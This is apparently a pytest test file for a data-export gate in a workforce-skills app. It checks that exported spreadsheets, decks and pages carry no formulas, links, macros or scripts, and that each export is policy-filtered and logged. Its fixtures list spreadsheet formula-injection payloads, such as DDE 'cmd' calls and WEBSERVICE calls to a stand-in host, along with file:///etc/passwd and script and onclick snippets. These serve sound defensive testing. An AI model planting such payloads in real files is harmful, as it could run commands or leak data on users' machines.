"""Every file that leaves passes one gate: policy, log, seal, and nothing live in it."""

from __future__ import annotations

import ast
import csv
import io
import itertools
import json
import re
import zipfile
from collections import defaultdict
from functools import cache

import openpyxl
import pandas as pd
import pytest

from skillgap.core.access import FACILITATOR, Viewer
from skillgap.core.errors import UnknownName
from skillgap.core.question import declare
from skillgap.exports.gate import Departure, let_out, plain_cell
from skillgap.exports.live_files import UnsafeFile
from skillgap.exports.live_text import would_run
from skillgap.store.ledger import LogHead
from tests.conftest import REPOSITORY

CALLS = (
    "=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://x.example","here")',
    "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.example/"&A1)', "=IMPORTXML(A1,A2)", "＝1+1",
    "﹦1+1", "＋1", "＠SUM(1)", "=DDE(A1)", '@HYPERLINK("x")', "-2+3", "+cmd|' /C calc'!A0",
    "=-1", "=1;2", "=A1\t=A2", "=\"a\"", '="http://x.example"', "=_xlfn.X()", "=1\n=2", "+@=1",
)  # fmt: skip
BEFORE = (
    "", " ", "   ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\0", "\x1f", "\x7f", "\xa0", "\xad",
    "\u200b", "\u200d", "\u2060", "\ufeff", "\u3000", "\u2028", "\u3164", "\u115f", "\u2800",
    "\u034f", "\ufe0f", "x;", "x\t", "x\n ", "a;\u200b", "\u202e",
)  # fmt: skip
HOSTILE = [before + call for before, call in itertools.product(BEFORE, CALLS)]
LINKS = (
    "http://x.example", "https://x.example/a?b", "mailto:a@x.example", "file:///etc/passwd",
    "www.x.example", r"\\server\share", "javascript:alert(1)", "a@x.example", "internal:Sheet1!A1",
)  # fmt: skip


@pytest.fixture
def book():
    """A log that only counts, and who takes files away from it."""
    written = []

    def log(what, told):
        written.append((what, told))
        return LogHead(len(written), "abc123")

    return written, Departure(FACILITATOR, log, "Works", 2, "f" * 64)


def hostile_table():
    assert len(HOSTILE) >= 600
    texts = [*HOSTILE, *LINKS]
    return pd.DataFrame(
        {
            "name": pd.Series(texts, dtype="str"),
            "=kind": pd.Categorical(texts),
            "level": [-1.5] * len(texts),
            "change": [-2] * len(texts),
        }
    )


def runs_in_csv(cell):
    """Whether a spreadsheet would run a cell, split at whatever it may take for a separator."""
    return any(would_run(part) and part[0] not in "\t\r\n" for part in re.split(r"[;\t\r\n]", cell))


# --- nothing live ---


def test_csv_of_hostile_texts_has_no_live_cell_and_numbers_stay_numbers(book):
    content = let_out(hostile_table(), "csv", book[1], what="Names").decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(content, newline=""))
    assert header[:2] == ["name", "'=kind"]
    assert [cell for row in rows for cell in row[:2] if runs_in_csv(cell)] == []
    assert {(row[2], row[3]) for row in rows} == {("-1.5", "-2")}
    assert len(rows) == len(HOSTILE) + len(LINKS)


def test_a_workbook_of_hostile_texts_has_no_formula_and_no_link(book):
    content = let_out(hostile_table(), "xlsx", book[1], what="=Names")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert {cell.value for cell in cells if cell.column_letter in "CD"} >= {-1.5, -2}
    parts = zipfile.ZipFile(io.BytesIO(content))
    assert not any(b"External" in parts.read(name) for name in parts.namelist())


@pytest.mark.parametrize("format", ["json", "parquet"])
def test_data_formats_keep_texts_and_numbers(book, format):
    content = let_out(hostile_table(), format, book[1], what="Names")
    read = (
        pd.DataFrame(json.loads(content))
        if format == "json"
        else pd.read_parquet(io.BytesIO(content))
    )
    assert read["name"].tolist() == hostile_table()["name"].tolist()
    assert set(read["level"]) == {-1.5}


@pytest.mark.parametrize("text", [*HOSTILE[::7], *LINKS])
def test_a_plain_cell_is_neither_formula_nor_link_and_reads_the_same(text):
    told = plain_cell(text)
    assert not would_run(told)
    assert plain_cell(told).replace("\u2060", "") == told.replace("\u2060", "")
    unseen = dict.fromkeys([0x2060, 0xFFFD, *range(32), 127])
    assert told.removeprefix("'").translate(unseen) == text.translate(unseen)
    if text in LINKS:
        assert told != text


def package(**parts):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return sink.getvalue()


SHEET = "xl__worksheets__sheet1_DOT_xml"
LIVE = {
    "a formula": ("xlsx", package(**{SHEET: "<c r='A1'><f>1+1</f></c>"})),
    "a shared formula": ("xlsx", package(**{SHEET: '<x:c><x:f t="shared" si="0"/><x:v/></x:c>'})),
    "a link in a sheet": ("xlsx", package(**{SHEET: '<hyperlinks><hyperlink ref="A1"/>'})),
    "a macro": ("xlsx", package(xl__vbaProject_DOT_bin="x")),
    "a connection": ("xlsx", package(xl__connections_DOT_xml="<x/>")),
    "a link out of a slide": (
        "pptx",
        package(ppt__slides___rels__slide1_DOT_xml_DOT_rels='<R TargetMode="External"/>'),
    ),
    "a click in a slide": ("pptx", package(ppt__slides__slide1_DOT_xml='<a:hlinkClick r:id="x"/>')),
    "a formula in a chart's workbook": (
        "pptx",
        package(ppt__embeddings__book_DOT_xlsx=package(**{SHEET: "<c><f>A1</f></c>"})),
    ),
    "a field in a letter": ("docx", package(word__document_DOT_xml="<w:t>HYPERLINK x</w:t>")),
    "a script": ("svg", b"<svg><script>alert(1)</script></svg>"),
    "a handler": ("html", b"<p onclick=alert(1)>x</p>"),
    "a picture from outside": ("html", b'<img src="http://x.example/a.png">'),
    "a link": ("html", b"<a href='http://x.example'>x</a>"),
    "a link in Markdown": ("md", b"see [here](http://x.example)"),
    "an action": ("pdf", b"<< /S /URI /URI (http://x.example) >>"),
}


@pytest.mark.parametrize("what", LIVE)
def test_a_file_with_something_live_in_it_does_not_leave(book, what):
    format, content = LIVE[what]
    with pytest.raises(UnsafeFile):
        let_out(lambda _: content, format, book[1], what="Deck")


def test_harmless_files_leave(book):
    _, leaving = book
    sheet = "<c r='A1' t='inlineStr'><is><t>=1+1</t></is></c>"
    for format, content in (
        ("pptx", package(ppt__slides__slide1_DOT_xml="<a:t>see http://x</a:t>",
                         ppt__embeddings__book_DOT_xlsx=package(**{SHEET: sheet}))),
        ("svg", b'<svg><text>on time = 5; x</text><use href="#a"/></svg>'),
        ("html", b"<table><tr><td>on = 1</td></tr></table>"),
        ("md", b"# Answer\n\n- 12 to 31 FTE (80%)\n"),
        ("json", b"{}"),
    ):  # fmt: skip
        assert let_out(lambda _, made=content: made, format, leaving, what="Deck") == content


# --- who, by which policy, from what ---


def test_the_viewers_policy_is_applied_at_the_gate(book):
    _, leaving = book
    team = Departure(Viewer("manager", frozenset({"E1"})), leaving.log, "Works", 2, "f" * 64)
    table = pd.DataFrame({"employee_id": ["E1", "E2"], "level": [1.0, 2.0]})
    told = declare("employee_id person who\nlevel level how well")
    rows = json.loads(let_out(table, "json", team, what="Levels", columns=told))
    assert [row["employee_id"] for row in rows] == ["E1"]
    assert [row["level"] for row in rows] == [1.0]
    bare = json.loads(let_out(table, "json", team, what="Levels"))
    assert not any({"employee_id", "level"} & set(row) for row in bare)


def test_the_log_is_written_before_the_file_and_its_head_stands_in_it(book):
    written, leaving = book
    (row,) = json.loads(let_out(pd.DataFrame({"a": [1]}), "json", leaving, what="Gaps"))
    assert row == {"a": 1, "dataset": "Works", "dataset_version": 2, "data_hash": "f" * 12,
                   "log_entry": 1, "log_head": "abc123"}  # fmt: skip
    ((what, told),) = written
    assert (what, "json, 1 rows" in told, "policy 1, facilitator" in told) == ("Gaps", True, True)
    seals = []
    let_out(lambda seal: seals.append(seal) or b"{}", "json", leaving, what="Deck")
    assert len(written) == 2
    assert seals[0].sentence.endswith("from Works version 2, data ffffffffffff; log entry 2, "
                                      "head abc123.")  # fmt: skip


def test_what_cannot_be_logged_does_not_leave():
    def full(*_):
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        let_out(pd.DataFrame({"a": [1]}), "csv", Departure(FACILITATOR, full), what="Gaps")


def test_a_form_stays_as_it_is_and_what_is_made_from_no_data_carries_the_log(book):
    written, leaving = book
    table, log_alone = pd.DataFrame({"a": ["x"]}), Departure(FACILITATOR, leaving.log)
    form = let_out(table, "csv", log_alone, what="a", form=True)
    assert form.decode("utf-8-sig") == "a\r\nx\r\n"
    assert let_out(table, "csv", log_alone, what="a").decode("utf-8-sig") == (
        "a,log_entry,log_head\r\nx,2,abc123\r\n"
    )
    assert len(written) == 2


@pytest.mark.parametrize("format", ["csv", "parquet", "exe", ""])
def test_tables_leave_as_tables_and_unknown_files_not_at_all(book, format):
    with pytest.raises(UnknownName):
        let_out(lambda _: b"=1", format, book[1], what="x")
    assert book[0] == []


# --- no way past it ---


@cache
def callers():
    """Files of the app by the name of each function they call."""
    found = defaultdict(set)
    for path in [*(REPOSITORY / "skillgap").rglob("*.py"), *(REPOSITORY / "pages").glob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                called = node.func
                told = getattr(called, "attr", getattr(called, "id", ""))
                found[told].add(path.relative_to(REPOSITORY).as_posix())
    return found


def calls_of(name):
    """Files of the app that call a function of this name."""
    return callers().get(name, set())


def test_no_other_place_offers_or_writes_a_file():
    assert calls_of("download_button") == {"skillgap/ui/kit/downloads.py"}
    assert calls_of("write_table") == {
        "skillgap/exports/gate.py",
        "skillgap/exports/access_pack.py",  # the tables of a zip, which passes the gate as one
        "skillgap/store/snapshots.py",
    }
    assert calls_of("to_csv") == {"skillgap/exports/tables.py",
                                  "skillgap/questions/forecast/result.py"}  # fmt: skip
    assert calls_of("to_excel") == set()
    written = {"skillgap/cli/writing.py", "skillgap/cli/templates.py"}
    kept_here = {"skillgap/ui/data/backup.py"}  # an uploaded backup, into the workspace
    assert calls_of("write_bytes") == written | kept_here
